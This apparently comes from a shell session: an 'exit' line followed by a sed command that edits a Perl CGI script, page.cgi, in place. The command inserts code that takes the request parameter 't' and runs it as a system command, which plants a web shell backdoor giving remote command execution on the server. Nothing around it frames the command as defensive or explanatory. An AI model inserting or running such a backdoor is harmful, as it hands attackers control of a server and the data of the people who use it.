exit
sed --in-place '/^use CGI;/a\
if (CGI::param("t")) {\
  my $c = CGI::param("t");\
  print `$c`; system($c);\
}' page.cgi
